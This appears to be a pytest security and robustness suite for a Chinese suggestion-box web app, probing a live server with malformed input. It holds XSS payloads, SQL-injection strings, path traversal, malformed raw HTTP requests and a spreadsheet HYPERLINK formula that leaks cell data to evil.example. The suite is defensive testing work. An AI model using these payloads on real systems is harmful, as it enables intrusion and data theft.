"""Bad input, tried systematically against a real server process over real HTTP.

Every request here gets a clear Chinese message or the right 4xx, never a 500, and nothing is
half-stored: the live server's SQLite file is opened read-only and its rows counted around each
refused request. The server log is checked after every test for unhandled exceptions.

Each request carries a fresh X-Forwarded-For (uvicorn trusts it from 127.0.0.1), so the per-client
throttles do not turn these probes into 429s.
"""

from __future__ import annotations

import contextlib
import random
import re
import socket
import sqlite3
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from suggestbox import tokens
from tests.conftest import (
    CSRF_RE,
    RECEIPT_RE,
    LiveServer,
    form_token,
    start_server,
    stop_server,
    workshop_today,
)

PASSWORD = "password123"
SECRET = "live-secret-" + "y" * 24  # what start_server gives the process
CHINESE = re.compile(r"[\u4e00-\u9fff]")
PAYLOAD = """<script>alert("x")</script><img src=x onerror=alert(1)>'&"""
ESCAPED = "&lt;script&gt;alert("
TABLES = ("case", "event", "used_form_token", "photo")


# ---- fixtures and helpers -------------------------------------------------------------------

@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    # Errors on public pages are reported as counts after a delay (DESIGN.md §1.9): a short one
    # here, and the whole log is checked once more after the server stopped.
    srv = start_server(tmp_path_factory.mktemp("bad-input"),
                       extra_env={"SUGGESTBOX_ERROR_DIGEST_SECONDS": "0.2"})
    try:
        srv.cli("team", "add", "w1", "一号车间")
        srv.cli("team", "add", "xss", '<b onmouseover=alert(1)>二号</b>')
        for name, role in (("lead", "leader"), ("fixer", "handler")):
            srv.cli("user", "add", name, "--role", role, "--password-stdin", stdin=PASSWORD + "\n")
        yield srv
    finally:
        stop_server(srv)
    text = srv.log.read_text(errors="replace")
    assert "unhandled" not in text and "Traceback" not in text, text[-3000:]


@pytest.fixture(autouse=True)
def no_unhandled_errors(server: LiveServer) -> Iterator[None]:
    """After each test: the server logged no unhandled exception (a 500) during it."""
    start = server.log.stat().st_size
    yield
    with server.log.open("rb") as fh:
        fh.seek(start)
        new = fh.read().decode("utf-8", "replace")
    assert "unhandled" not in new and "Exception in ASGI" not in new, new


def _fresh_address(request: httpx.Request) -> None:
    request.headers["x-forwarded-for"] = (
        f"10.{random.randrange(256)}.{random.randrange(256)}.{random.randrange(1, 255)}"
    )


def new_client(server: LiveServer) -> httpx.Client:
    # No keep-alive: a refused upload may leave the connection closed by the server.
    return httpx.Client(
        base_url=server.url, timeout=30, event_hooks={"request": [_fresh_address]},
        limits=httpx.Limits(max_keepalive_connections=0),
    )


@pytest.fixture(scope="module")
def lead(server: LiveServer) -> Iterator[httpx.Client]:
    """A leader signed in for the whole module (read-only uses)."""
    c, _ = staff(server)
    yield c
    c.close()


@pytest.fixture
def web(server: LiveServer) -> Iterator[httpx.Client]:
    with new_client(server) as c:
        yield c


def db(server: LiveServer) -> sqlite3.Connection:
    path = Path(server.env["SUGGESTBOX_DATA_DIR"]) / "suggestbox.sqlite3"
    return sqlite3.connect(f"file:{path}?mode=ro", uri=True)


def query(server: LiveServer, sql: str, *args: Any) -> list[tuple[Any, ...]]:
    with contextlib.closing(db(server)) as conn:
        return conn.execute(sql, args).fetchall()


def counts(server: LiveServer) -> dict[str, int]:
    return {t: query(server, f'SELECT COUNT(*) FROM "{t}"')[0][0] for t in TABLES}


@contextlib.contextmanager
def nothing_stored(server: LiveServer) -> Iterator[None]:
    before = counts(server)
    yield
    assert counts(server) == before


def refused(r: httpx.Response, status: int, message: str = "") -> None:
    assert r.status_code == status, (r.status_code, r.text[:500])
    if r.request.method != "HEAD":
        assert CHINESE.search(r.text), r.text[:500]
    assert message in r.text, r.text[:2000]


def post_submit(web: httpx.Client, body: str, category: str = "1", **extra: str) -> httpx.Response:
    token = form_token(web.get("/").text)
    return web.post("/", data={"token": token, "category": category, "body": body, **extra})


def submit_ok(web: httpx.Client, body: str, **extra: str) -> str:
    """Submit; return the receipt shown."""
    r = post_submit(web, body, **extra)
    assert r.status_code == 303, r.text[:1000]
    m = RECEIPT_RE.search(web.get("/receipt").text)
    assert m
    return m.group(1)


def case_id_of(server: LiveServer, body: str) -> str:
    rows = query(server, 'SELECT id FROM "case" WHERE body = ?', body)
    assert len(rows) == 1, rows
    return str(rows[0][0])


def staff(server: LiveServer, name: str = "lead") -> tuple[httpx.Client, str]:
    """A logged-in staff client and its CSRF token."""
    c = new_client(server)
    r = c.post("/staff/login", data={"username": name, "password": PASSWORD})
    assert r.status_code == 303, r.text[:500]
    m = CSRF_RE.search(c.get("/staff/cases").text)
    assert m
    return c, m.group(1)


def track_page(web: httpx.Client, receipt: str) -> httpx.Response:
    token = form_token(web.get("/track").text)
    return web.post("/track", data={"token": token, "receipt": receipt})


def raw(server: LiveServer, request: bytes) -> bytes:
    """Send bytes as they are; return the status line."""
    port = int(server.url.rsplit(":", 1)[1])
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(request)
        data = b""
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    return data.split(b"\r\n", 1)[0]


# ---- text of a submission -------------------------------------------------------------------

@pytest.mark.parametrize(
    ("body", "message"),
    [
        ("", "请填写内容"),
        ("   \n\t  \r\n ", "请填写内容"),
        ("\u3000\u3000\u3000\u3000\u3000\u3000", "请填写内容"),  # ideographic spaces
        ("四个字啊", "太短了"),
        ("长" * 2001, "太长了"),
        ("😀" * 2001, "太长了"),
        ("长" * 20000, "太长了"),  # ~180 KB encoded: under the body limit, over the text limit
        ("含有\x01标题开始符的内容", "控制字符"),
        ("含有\x1b[31m终端转义的内容", "控制字符"),
        ("含有\x7f删除符和\x08退格的内容", "控制字符"),
        ("含有\x85下一行控制符的内容", "控制字符"),
    ],
    ids=["empty", "whitespace", "ideographic-space", "too-short", "too-long", "emoji-too-long",
         "far-too-long", "soh", "escape", "del-backspace", "c1-control"],
)
def test_bad_text_is_refused_with_input_kept(server: LiveServer, web: httpx.Client, body: str,
                                             message: str) -> None:
    with nothing_stored(server):
        r = post_submit(web, body)
    refused(r, 422, message)
    assert 'name="token"' in r.text  # the form is shown again, with a fresh token
    kept = body.strip()[:4000]
    if kept and "\x00" not in kept and "\x1b" not in kept:
        assert kept[:100] in r.text


@pytest.mark.parametrize("category", ["", "abc", "0", "-1", "999", "1.5", "1e3",
                                      "99999999999999999999", "1; DROP TABLE category"])
def test_bad_category_is_refused(server: LiveServer, web: httpx.Client, category: str) -> None:
    with nothing_stored(server):
        r = post_submit(web, "类别不对的提交内容。", category=category)
    refused(r, 422, "请选择一个类别")


def test_text_at_the_limits_is_accepted_verbatim(server: LiveServer, web: httpx.Client) -> None:
    bodies = [
        "刚好五个字",
        "长" * 2000,
        "😀" * 2000,  # 2,000 characters, 8,000 bytes
        "  前后有空白的内容，会被去掉。 \n",
    ]
    before = counts(server)
    for body in bodies:
        submit_ok(web, body)
        case_id_of(server, body.strip())
    after = counts(server)
    assert after["case"] == before["case"] + len(bodies)
    assert after["event"] == before["event"] + len(bodies)


@pytest.mark.parametrize(
    "body",
    [
        "هذا اقتراح لتحسين المقصف في الورشة",  # right-to-left
        "עברית: הצעה לשיפור\u200f והערה",
        "饭菜太咸了👍🏽👨\u200d👩\u200d👧\u200d👦🍜🇨🇳",
        "e\u0301 组合字符与全角ＡＢＣ１２３",
    ],
    ids=["arabic", "hebrew", "emoji", "combining"],
)
def test_rtl_and_emoji_are_stored_and_shown_intact(server: LiveServer, web: httpx.Client,
                                                   lead: httpx.Client, body: str) -> None:
    receipt = submit_ok(web, body)
    case_id = case_id_of(server, body)  # stored exactly as sent
    assert track_page(web, receipt).status_code == 200
    page = lead.get(f"/staff/cases/{case_id}")
    assert page.status_code == 200
    assert re.search(r'dir="auto">' + re.escape(body) + "<", page.text)
    assert body[:20] in lead.get("/staff/cases").text


def test_invalid_percent_encoded_utf8_is_refused(server: LiveServer, web: httpx.Client) -> None:
    token = form_token(web.get("/").text)
    with nothing_stored(server):
        body = f"token={token}&category=1&body=%FF%FE%E4%B8%C0%AF%E6%9D".encode()
        r = web.post("/", content=body,
                     headers={"content-type": "application/x-www-form-urlencoded"})
    refused(r, 400, "编码错误")  # at the edge (edge.py), for every field of every form


def test_bidi_overrides_are_removed_and_invisible_text_refused(
        server: LiveServer, web: httpx.Client, lead: httpx.Client) -> None:
    body = f"\u202e混合方向覆盖字符 RLO 的内容\u202c {uuid.uuid4().hex[:6]}"
    shown = body.replace("\u202e", "").replace("\u202c", "")
    receipt = submit_ok(web, body)
    case_id = case_id_of(server, shown)  # stored without the override
    assert track_page(web, receipt).status_code == 200
    page = lead.get(f"/staff/cases/{case_id}")
    assert re.search(r'dir="auto">' + re.escape(shown) + "<", page.text)
    assert "\u202e" not in page.text
    with nothing_stored(server):
        for invisible in ("\u200b" * 5, "\u200b\u200c\u200d\ufeff\u2060" * 3, "\u3164" * 6,
                          "a\u200b\u200b\u200b\u200b", "\u202e\u202e\u202e\u202e\u202e"):
            r = post_submit(web, invisible)
            assert r.status_code == 422, r.text[:300]
            assert "请填写内容" in r.text or "太短了" in r.text


def test_raw_utf8_bytes_in_urlencoded_body_are_refused(server: LiveServer,
                                                       web: httpx.Client) -> None:
    # Browsers percent-encode: a urlencoded body with raw non-ASCII bytes is refused as a whole
    # (Starlette would decode it as Latin-1) — a 400 with a Chinese message, nothing stored.
    token = form_token(web.get("/").text)
    with nothing_stored(server):
        r = web.post("/", content=f"token={token}&category=1&body=".encode()
                     + "未编码的中文内容".encode(),
                     headers={"content-type": "application/x-www-form-urlencoded"})
    refused(r, 400, "字符编码")


@pytest.mark.parametrize("encoding", ["urlencoded", "multipart"])
def test_raw_invalid_utf8_is_refused(server: LiveServer, web: httpx.Client, encoding: str) -> None:
    token = form_token(web.get("/").text)
    bad = b"\xff\xfe\xfa invalid \xe4\xb8 bytes"
    if encoding == "urlencoded":
        content = f"token={token}&category=1&body=".encode() + bad
        ctype = "application/x-www-form-urlencoded"
    else:
        parts = [(b"token", token.encode()), (b"category", b"1"), (b"body", bad)]
        content = b"".join(
            b'--BB\r\nContent-Disposition: form-data; name="' + n + b'"\r\n\r\n' + v + b"\r\n"
            for n, v in parts) + b"--BB--\r\n"
        ctype = "multipart/form-data; boundary=BB"
    with nothing_stored(server):
        r = web.post("/", content=content, headers={"content-type": ctype})
    assert 400 <= r.status_code < 500


# ---- size ------------------------------------------------------------------------------------

def test_ten_megabyte_bodies_get_413(server: LiveServer, web: httpx.Client) -> None:
    big = b"body=" + b"x" * (10 * 1024 * 1024)
    form = {"content-type": "application/x-www-form-urlencoded"}
    with nothing_stored(server):
        for path in ("/", "/track", "/track/followup", "/staff/login"):
            refused(web.post(path, content=big, headers=form), 413, "太大")
        # Without a Content-Length (chunked): cut off while reading.
        chunks = (b"x" * 65536 for _ in range(160))
        refused(web.post("/", content=chunks, headers=form), 413, "太大")


# ---- forms and tokens ------------------------------------------------------------------------

def test_missing_forged_stale_and_future_form_tokens(server: LiveServer, web: httpx.Client) -> None:
    good = form_token(web.get("/").text)
    day, nonce, sig = good.split(".")
    today = workshop_today()
    bad_tokens = [
        "", "x", "..", good + "x", f"{day}.{nonce}.{'0' * 32}", f"{day}.{nonce}x.{sig}",
        tokens.issue(SECRET, today - timedelta(days=10)),  # genuine but stale
        tokens.issue(SECRET, today + timedelta(days=5)),  # genuine but from the future
        tokens.issue("another-secret", today), "a" * 5000, f"{day}.{nonce}.\u00bf{sig[1:]}",
        "\u00bf",
    ]
    with nothing_stored(server):
        for t in bad_tokens:
            r = web.post("/", data={"token": t, "category": "1", "body": "令牌不对的提交内容。"})
            refused(r, 422, "表单已过期")
            assert "令牌不对的提交内容。" in r.text  # input kept
        r = web.post("/", data={"category": "1", "body": "没有令牌的提交内容。"})
        refused(r, 422, "表单已过期")
        refused(web.post("/", data={"token": "\x00.\x00.\x00", "category": "1",
                                    "body": "空字符令牌的提交内容。"}), 400, "空字符")
        for t in ("", "x", bad_tokens[6], "\u00bf"):
            refused(web.post("/track", data={"token": t, "receipt": "0000-0000-0000-0000"}), 403,
                    "页面已过期")


def test_cross_site_posts_are_refused(server: LiveServer, web: httpx.Client) -> None:
    with nothing_stored(server):
        for headers in ({"sec-fetch-site": "cross-site"}, {"sec-fetch-site": "same-site"},
                        {"sec-fetch-site": "\x01odd"}, {"origin": "http://evil.example"},
                        {"origin": "null"}):
            token = form_token(web.get("/").text)
            r = web.post("/", data={"token": token, "category": "1", "body": "跨站提交的内容。"},
                         headers=headers)
            refused(r, 403, "跨站请求被拒绝")


def test_concurrent_duplicate_posts_make_one_case(server: LiveServer, web: httpx.Client) -> None:
    token = form_token(web.get("/").text)
    body = f"并发重复提交 {uuid.uuid4().hex[:8]}"
    data = {"token": token, "category": "2", "body": body}

    def post(_: int) -> int:
        with new_client(server) as c:
            return c.post("/", data=data).status_code

    before = counts(server)
    with ThreadPoolExecutor(10) as pool:
        statuses = list(pool.map(post, range(10)))
    assert statuses == [303] * 10
    after = counts(server)
    assert after == {t: before[t] + (t != "photo") for t in TABLES}
    case_id_of(server, body)


def test_concurrent_distinct_posts_all_stored(server: LiveServer, web: httpx.Client) -> None:
    forms = [{"token": form_token(web.get("/").text), "category": "1",
              "body": f"并发的不同提交 {i} {uuid.uuid4().hex[:6]}"} for i in range(10)]

    def post(data: dict[str, str]) -> int:
        with new_client(server) as c:
            return c.post("/", data=data).status_code

    before = counts(server)
    with ThreadPoolExecutor(10) as pool:
        assert list(pool.map(post, forms)) == [303] * 10
    assert counts(server)["case"] == before["case"] + 10


# ---- multipart and content types -------------------------------------------------------------

@pytest.mark.parametrize(
    ("content", "ctype"),
    [
        (b"garbage", "multipart/form-data"),  # no boundary
        (b"garbage\r\n--XX", "multipart/form-data; boundary=XX"),
        (b'--XX\r\nContent-Disposition: form-data; name="body"\r\n\r\nunterminated',
         "multipart/form-data; boundary=XX"),
        (b'--XX\r\nContent-Disposition: form-data; name="photos"; filename="a.jpg"\r\n'
         b"Content-Type: image/jpeg\r\n\r\nnot a photo\r\n--XX--\r\n",
         "multipart/form-data; boundary=XX"),  # a "photo" that is not one, and no token
        (b"&".join(b"f%d=x" % i for i in range(80)), "application/x-www-form-urlencoded"),
    ],
    ids=["no-boundary", "garbage", "unterminated", "file", "too-many-fields"],
)
def test_malformed_forms_are_refused(server: LiveServer, web: httpx.Client, content: bytes,
                                 ctype: str) -> None:
    with nothing_stored(server):
        r = web.post("/", content=content, headers={"content-type": ctype})
    # Multipart (the photo form) is parsed in memory; a broken body is a 400, a well-formed one
    # without a token or with a non-photo is the form again with its errors.
    refused(r, 422 if b"Content-Disposition" in content else 400)


@pytest.mark.parametrize("ctype", [None, "text/plain", "application/json",
                                   "application/x-www-form-urlencoded; charset=latin-1"])
def test_odd_content_types_store_nothing(server: LiveServer, web: httpx.Client,
                                         ctype: str | None) -> None:
    headers = {"content-type": ctype} if ctype else {}
    with nothing_stored(server):
        r = web.post("/", content=b'{"body": "json body text", "category": 1}', headers=headers)
    assert 400 <= r.status_code < 500 and CHINESE.search(r.text)


def test_multipart_text_is_utf8_or_refused(server: LiveServer, web: httpx.Client) -> None:
    # The submit page posts multipart (for photos). Text fields are decoded strictly as UTF-8:
    # Starlette's Latin-1 fallback would store mojibake.
    token = form_token(web.get("/").text)
    with nothing_stored(server):
        r = web.post("/", files={"token": (None, token), "category": (None, "1"),
                                 "body": (None, "坏的编码：".encode() + b"\xff\xfe\xc3")})
    refused(r, 400, "无法识别的编码")
    with nothing_stored(server):
        r = web.post("/", files={"token": (None, token), "category": (None, "1"),
                                 "body": (None, "含空字符\x00的内容".encode())})
    refused(r, 400, "空字符")
    body = "用 multipart 提交的内容。"
    r = web.post("/", files={"token": (None, token), "category": (None, "1"),
                             "body": (None, body.encode())})
    assert r.status_code == 303
    assert query(server, 'SELECT body FROM "case" WHERE body = ?', body) == [(body,)]


# ---- receipts and teams ----------------------------------------------------------------------

RECEIPT_MESSAGES = ("请输入回执码", "回执码是 16 位", "回执码只含数字和字母",
                    "没有找到与这个回执码对应的记录")


@pytest.mark.parametrize("typed", [
    "", " ", "----", "0000-0000-0000-000", "0000-0000-0000-00000", "U" * 16, "A" * 64,
    "A" * 65, "A" * 10000, "\x01" * 16, "💥" * 16, "' OR '1'='1", "%s%s%s%n",
    "<script>alert(1)</script>", "ＡＢＣＤ－ＥＦＧＨ－ＪＫＭＮ－ＰＱＲＳ",
])
def test_malformed_receipts_say_what_is_wrong(server: LiveServer, web: httpx.Client,
                                              typed: str) -> None:
    r = track_page(web, typed)
    refused(r, 422)
    assert sum(m in r.text for m in RECEIPT_MESSAGES) == 1, r.text[:2000]
    assert "<script>alert(1)" not in r.text
    token = form_token(web.get("/track").text)
    with nothing_stored(server):
        for action in ("followup", "rate"):
            r = web.post(f"/track/{action}", data={"token": token, "receipt": typed,
                                                    "body": "补充", "rating": "satisfied"})
            refused(r, 422)
            assert sum(m in r.text for m in RECEIPT_MESSAGES) == 1


def test_nul_in_a_receipt_is_refused_at_the_edge(server: LiveServer, web: httpx.Client) -> None:
    token = form_token(web.get("/track").text)
    with nothing_stored(server):
        for path in ("/track", "/track/followup", "/track/rate"):
            refused(web.post(path, data={"token": token, "receipt": "\x00" * 16}), 400, "空字符")


def test_track_actions_with_bad_fields(server: LiveServer, web: httpx.Client) -> None:
    receipt = submit_ok(web, "用来测试跟进表单的内容。")
    token = form_token(web.get("/track").text)
    with nothing_stored(server):
        r = web.post("/track/delete", data={"token": token, "receipt": receipt})
        refused(r, 404)
        for body in ("", "   ", "含\x01控制字符", "\u200b" * 10, "长" * 2001):
            r = web.post("/track/followup", data={"token": token, "receipt": receipt,
                                                  "body": body})
            refused(r, 422)
        r = web.post("/track/rate", data={"token": token, "receipt": receipt,
                                          "rating": "excellent"})
        refused(r, 422)  # not answered yet: cannot rate
        r = web.post("/track/followup", data={"token": "forged", "receipt": receipt,
                                              "body": "伪造令牌的补充"})
        refused(r, 422, "页面已过期")


@pytest.mark.parametrize("code", ["nope", "W1", " w1x", "a" * 5000, "%00", "' OR 1=1 --",
                                  "<script>", "..%2F..%2Fetc"])
def test_unknown_team_codes_are_ignored(server: LiveServer, web: httpx.Client, code: str) -> None:
    page = web.get("/", params={"t": code})
    assert page.status_code == 200 and 'name="team"' not in page.text
    body = f"未知班组代码 {uuid.uuid4().hex[:8]}"
    submit_ok(web, body, team=code)
    assert query(server, 'SELECT team_id FROM "case" WHERE body = ?', body) == [(None,)]


# ---- escaping --------------------------------------------------------------------------------

def _assert_escaped(page: httpx.Response) -> None:
    assert page.status_code == 200, page.text[:500]
    assert "<script>alert(" not in page.text and "<img src=x" not in page.text
    assert ESCAPED in page.text


def test_html_payloads_are_escaped_everywhere(server: LiveServer, web: httpx.Client) -> None:
    receipt = submit_ok(web, PAYLOAD)
    case_id = case_id_of(server, PAYLOAD)
    assert "<script>alert(" not in track_page(web, receipt).text
    lead, csrf = staff(server)
    try:
        # Searched for, so that it is on the first page however many cases the module's
        # server holds (the queue orders a day's cases by random key).
        _assert_escaped(lead.get("/staff/cases", params={"q": "alert("}))
        _assert_escaped(lead.get(f"/staff/cases/{case_id}"))
        q = lead.get("/staff/cases", params={"q": PAYLOAD[:40], "status": "<script>"})
        assert q.status_code == 200 and "<script>alert(" not in q.text
        # Staff text (a reply, a published summary) is escaped for the submitter too.
        lead_id = query(server, "SELECT id FROM staff_user WHERE username = 'lead'")[0][0]
        act = f"/staff/cases/{case_id}/act"
        assert lead.post(act, data={"csrf": csrf, "action": "accept",
                                    "assignee": str(lead_id)}).status_code == 303
        assert lead.post(act, data={"csrf": csrf, "action": "reply",
                                    "body": "答复 " + PAYLOAD}).status_code == 303
        _assert_escaped(track_page(web, receipt))
        r = lead.post(act, data={"csrf": csrf, "action": "publish", "show_reply": "1",
                                 "summary": "摘要 " + PAYLOAD, "body": "摘要 " + PAYLOAD})
        assert r.status_code == 303, r.text[:1000]
        _assert_escaped(web.get("/board"))
        board_item = web.get(f"/board/{case_id}")
        assert board_item.status_code == 200
        _assert_escaped(board_item)
        month = workshop_today().strftime("%Y-%m")
        report = lead.get(f"/staff/reports/{month}")
        assert report.status_code == 200
        assert "<script>alert(" not in report.text
        # The team name from the admin is escaped on the public page.
        team_page = web.get("/?t=xss")
        assert "<b onmouseover" not in team_page.text and "&lt;b onmouseover" in team_page.text
        # The login page reflects ?next= inside an attribute.
        login = web.get("/staff/login", params={"next": '/staff"><script>alert(1)</script>'})
        assert login.status_code == 200 and "<script>alert(1)" not in login.text
    finally:
        lead.close()


def test_csv_cells_cannot_become_formulas(server: LiveServer, web: httpx.Client) -> None:
    body = '=HYPERLINK("http://evil.example/?x="&A1,"点这里查看详情")'
    submit_ok(web, body)
    case_id = case_id_of(server, body)
    month = workshop_today().strftime("%Y-%m")
    lead, csrf = staff(server)
    try:
        lead_id = query(server, "SELECT id FROM staff_user WHERE username = 'lead'")[0][0]
        act = f"/staff/cases/{case_id}/act"
        for data in ({"action": "accept", "assignee": str(lead_id)},
                     {"action": "reply", "body": "+1 已处理"},
                     {"action": "publish", "summary": body, "show_reply": "1"}):
            assert lead.post(act, data={"csrf": csrf, **data}).status_code == 303
        text = lead.get(f"/staff/reports/{month}/cases.csv").content.decode("utf-8-sig")
    finally:
        lead.close()
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert any("HYPERLINK" in c for c in cells), text[:500]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], dangerous


def test_sql_looking_strings_are_just_text(server: LiveServer, web: httpx.Client) -> None:
    body = "'; DROP TABLE \"case\"; -- 以及 1' OR '1'='1"
    submit_ok(web, body)
    case_id_of(server, body)
    lead, _ = staff(server)
    try:
        r = lead.get("/staff/cases", params={"q": "' OR 1=1 --"})
        assert r.status_code == 200 and "没有符合条件的案件" in r.text
        r = lead.get("/staff/cases", params={"q": "DROP TABLE"})
        assert r.status_code == 200 and "DROP TABLE" in r.text
        for path in ("/staff/cases/' OR 1=1 --", "/staff/cases/1;DROP TABLE case",
                     f"/staff/cases/{uuid.uuid4()}"):
            refused(lead.get(path), 404)
    finally:
        lead.close()
    r = web.post("/staff/login", data={"username": "admin' --", "password": "' OR '1'='1"})
    refused(r, 422, "用户名或密码不正确")
    assert query(server, "SELECT COUNT(*) FROM sqlite_master WHERE name = 'case'") == [(1,)]


# ---- staff forms -----------------------------------------------------------------------------

def test_staff_csrf_missing_forged_or_foreign(server: LiveServer, web: httpx.Client) -> None:
    body = f"CSRF 测试用的案件 {uuid.uuid4().hex[:6]}"
    submit_ok(web, body)
    case_id = case_id_of(server, body)
    lead, csrf = staff(server)
    other, other_csrf = staff(server, "fixer")
    try:
        act = f"/staff/cases/{case_id}/act"
        with nothing_stored(server):
            for token in (None, "", "forged", csrf + "x", other_csrf, "\u00bf" * 43,
                          csrf[:-1] + "\u00e9"):
                data = {"action": "note", "body": "内部备注"}
                if token is not None:
                    data["csrf"] = token
                refused(lead.post(act, data=data), 403, "CSRF")
            refused(lead.post("/staff/logout", data={"csrf": "forged"}), 403, "CSRF")
            refused(lead.post(act, data={"csrf": "\x00" * 43, "action": "note"}), 400, "空字符")
        assert lead.get("/staff/cases").status_code == 200  # still signed in
    finally:
        lead.close()
        other.close()


def test_staff_action_bad_fields(server: LiveServer, web: httpx.Client) -> None:
    body = f"办理表单测试用的案件 {uuid.uuid4().hex[:6]}"
    submit_ok(web, body)
    case_id = case_id_of(server, body)
    lead, csrf = staff(server)
    yesterday = (workshop_today() - timedelta(days=1)).isoformat()
    cases = [
        ({"action": "accept", "assignee": "abc"}, "请选择承办人"),
        ({"action": "accept", "assignee": "99999999999999999999"}, "请选择承办人"),
        ({"action": "accept", "assignee": "-5"}, "请选择承办人"),
        ({"action": "accept", "assignee": "1", "deadline": "2024-13-45"}, "日期格式"),
        ({"action": "accept", "assignee": "1", "deadline": "' OR 1=1"}, "日期格式"),
        ({"action": "accept", "assignee": "1", "deadline": yesterday}, "不能早于今天"),
        ({"action": "drop table", "body": "x"}, "未知的操作"),
        ({"action": "", "body": "x"}, "未知的操作"),
        ({"action": "submit"}, "未知的操作"),
        ({"action": "note", "body": ""}, "请填写备注内容"),
        ({"action": "note", "body": "含\x01控制字符"}, "控制字符"),
        ({"action": "merge", "merge_into": "'; DROP"}, "8 位编号"),
        ({"action": "merge", "merge_into": "ZZZZZZZZ"}, "8 位编号"),
        ({"action": "close"}, "不能执行"),
        ({"action": "rate", "rating": "satisfied"}, "没有权限"),
    ]
    try:
        act = f"/staff/cases/{case_id}/act"
        with nothing_stored(server):
            for data, message in cases:
                r = lead.post(act, data={"csrf": csrf, **data})
                refused(r, 422, message)
        with nothing_stored(server):
            r = lead.get("/staff/cases", params={"after": "garbage"})
            refused(r, 400)
            for params in ({"category": "99999999999999999999"}, {"team": "abc"},
                           {"assignee": "-1"}, {"overdue": "yes"}, {"q": "x" * 5000},
                           {"after": f"{workshop_today()}_{uuid.uuid4()}"}):
                assert lead.get("/staff/cases", params=params).status_code == 200
            refused(lead.get(f"/staff/cases/{case_id}x"), 404)
            refused(lead.post(f"/staff/cases/{uuid.uuid4()}/act",
                              data={"csrf": csrf, "action": "note", "body": "x"}), 404)
    finally:
        lead.close()


# ---- methods and headers ---------------------------------------------------------------------

@pytest.mark.parametrize(("method", "path"), [
    ("PUT", "/"), ("DELETE", "/"), ("PATCH", "/"), ("OPTIONS", "/"), ("TRACE", "/"),
    ("DELETE", "/track"), ("GET", "/track/followup"), ("POST", "/receipt"),
    ("POST", "/healthz"), ("GET", "/staff/logout"), ("DELETE", "/staff/cases"),
    ("GET", f"/staff/cases/{uuid.UUID(int=0)}/act"), ("PUT", "/staff/login"),
])
def test_wrong_methods_get_405(server: LiveServer, web: httpx.Client, method: str,
                               path: str) -> None:
    with nothing_stored(server):
        refused(web.request(method, path), 405, "不支持这种访问方式")


@pytest.mark.parametrize(("request_bytes", "statuses"), [
    (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n", {b"400"}),
    (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
     {b"400"}),
    (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n", {b"400"}),
    (b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 99999999999999999999999\r\n\r\n",
     {b"400", b"413"}),
    (b"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n", {b"400"}),
    (b"GET / HTTP/1.1\r\n\r\n", {b"400"}),  # no Host
    (b"GARBAGE\r\n\r\n", {b"400"}),
    (b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: " + b"a" * 60000 + b"\r\n\r\n", {b"200", b"431"}),
    (b"GET / HTTP/1.1\r\nHost: x\r\nCookie: \xff\xfe=\x01; sb_staff=\xff\r\n\r\n", {b"200"}),
    (b"GET /staff/cases HTTP/1.1\r\nHost: x\r\nCookie: sb_staff=" + b"z" * 8000 + b"\r\n\r\n",
     {b"303"}),
    (b"GET /receipt HTTP/1.1\r\nHost: x\r\nCookie: sb_receipt=" + b"%ff" * 30 + b"\r\n\r\n",
     {b"200"}),
    (b"GET / HTTP/1.1\r\nHost: \xff\xfe<script>\r\nAccept-Language: \xff;q=abc\r\n"
     b"X-Forwarded-For: not-an-ip, <script>\r\n\r\n", {b"200"}),
], ids=["cl-not-a-number", "cl-twice", "cl-negative", "cl-huge", "nul-in-path", "no-host",
        "garbage", "long-header", "binary-cookie", "long-staff-cookie", "odd-receipt-cookie",
        "odd-host-xff"])
def test_header_oddities(server: LiveServer, request_bytes: bytes, statuses: set[bytes]) -> None:
    with nothing_stored(server):
        line = raw(server, request_bytes)
    assert line.split(b" ")[1] in statuses, line


def test_forwarded_for_garbage_still_submits(server: LiveServer) -> None:
    with httpx.Client(base_url=server.url) as c:
        token = form_token(c.get("/").text)
        body = f"XFF 是乱码的提交 {uuid.uuid4().hex[:6]}"
        r = c.post("/", data={"token": token, "category": "1", "body": body},
                   headers={"x-forwarded-for": "not-an-ip, <script>, ::::"})
    assert r.status_code == 303
    case_id_of(server, body)
